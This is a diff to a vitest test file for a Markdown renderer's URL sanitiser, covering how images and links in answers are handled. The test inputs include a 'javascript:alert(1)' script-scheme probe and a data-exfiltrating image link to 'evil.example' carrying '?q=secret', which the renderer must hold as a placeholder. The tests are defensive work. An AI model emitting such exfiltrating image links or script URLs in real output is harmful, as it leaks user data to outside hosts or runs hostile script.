@@ -1,5 +1,5 @@
 // @vitest-environment jsdom
-import { cleanup, render } from '@testing-library/react';
+import { cleanup, fireEvent, render } from '@testing-library/react';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Markdown } from '../../src/ui/markdown/Markdown';
 import { safeHref, safeImageSrc } from '../../src/ui/markdown/safe-url';
@@ -55,13 +55,26 @@ describe('links in answers', () => {
   });
 
   it('shows only http(s) images; other sources leave their alt text', () => {
+    const own = `${window.location.origin}/api/v1/creation/a.png`;
     const { container } = render(
-      <Markdown text="![ok](https://x.org/a.png) ![inline](data:image/png;base64,AAAA) ![local](/api/secret.png) ![js](javascript:alert(1))" />,
+      <Markdown
+        text={`![ok](${own}) ![inline](data:image/png;base64,AAAA) ![local](/api/secret.png) ![js](javascript:alert(1))`}
+      />,
     );
     const images = [...container.querySelectorAll('img')];
-    expect(images.map((img) => img.getAttribute('src'))).toEqual(['https://x.org/a.png']);
+    expect(images.map((img) => img.getAttribute('src'))).toEqual([own]);
     expect(container.textContent).toContain('inline');
     expect(container.textContent).toContain('local');
+  });
+
+  it('a picture on another host is a placeholder naming the host until the reader loads it', () => {
+    const { container, getByTestId } = render(
+      <Markdown text="![leak](https://evil.example/p.png?q=secret)" />,
+    );
+    expect(container.querySelectorAll('img')).toHaveLength(0);
+    expect(getByTestId('outside-image').textContent).toContain('evil.example');
+    fireEvent.click(getByTestId('load-outside-image'));
+    expect(container.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/p.png?q=secret');
   });
 
   it('judges hidden schemes the way a browser would read them', () => {
